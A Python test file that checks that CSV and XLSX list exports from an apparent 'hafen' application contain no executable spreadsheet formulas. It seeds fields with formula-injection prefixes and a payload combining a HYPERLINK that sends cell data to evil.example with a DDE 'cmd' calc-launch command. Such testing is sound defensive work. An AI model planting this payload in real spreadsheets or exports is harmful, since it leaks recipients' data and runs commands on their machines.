"""No cell of a list that leaves the house is a formula (SEC-20)."""

import csv
import io
import os
from itertools import count

import openpyxl

from hafen.core.db.sheets import WORKBOOK
from tests.hostile.painting import paint
from tests.hostile.walking import body, first_addresses

# Of the lists, so many are left for `make test-long`.
EACH = 1 if os.environ.get("HAFEN_LONG") else 3
STARTS = ("=", "+", "-", "@", "\t=", "\r\n=", "\n@", "|", "＝", "＋", "－", "＠", " =")
RUNS = ("=", "+", "-", "@", "\t", "\r", "\n", "|", "＝", "＋", "－", "＠")
COMMAND = 'HYPERLINK("http://evil.example/?"&A1,"x")+cmd|\' /C calc\'!A0'


def cells_of(answer):
    """Return the texts of a file, below its headings; refuse what a program runs."""
    content = body(answer)
    if answer["Content-Type"] == WORKBOOK:
        book = openpyxl.load_workbook(io.BytesIO(content))
        found = [cell for row in book.active.iter_rows(min_row=2) for cell in row]
        assert [cell.coordinate for cell in found if cell.data_type == "f"] == []
        return [str(cell.value) for cell in found if isinstance(cell.value, str)]
    lines = csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";")
    return [cell for line in list(lines)[1:] for cell in line]


def is_number(text):
    return text.lstrip("+-").replace(",", "").replace(".", "").isdigit()


def test_no_cell_of_a_list_is_a_formula(musterhafen, at_desk):
    number = count()
    paint(lambda _field, _row: STARTS[next(number) % len(STARTS)] + COMMAND[:60])
    files, running = {}, []
    for address in first_addresses(musterhafen, "de", is_public=False)[::EACH]:
        for kind in ("csv", "xlsx"):
            answer = at_desk.get(address, {"as": kind})
            if answer.get("Content-Disposition", "").startswith("attachment"):
                files[address, kind] = cells_of(answer)
            if answer.status_code != 200 or (address, kind) not in files:
                break

    running = [
        (where, cell)
        for where, cells in files.items()
        for cell in cells
        if cell.startswith(RUNS) and not is_number(cell)
    ]
    assert sum(COMMAND[:20] in cell for cells in files.values() for cell in cells) > 20
    assert {address for address, kind in files if kind == "xlsx"} == {
        address for address, _kind in files
    }
    assert running == []
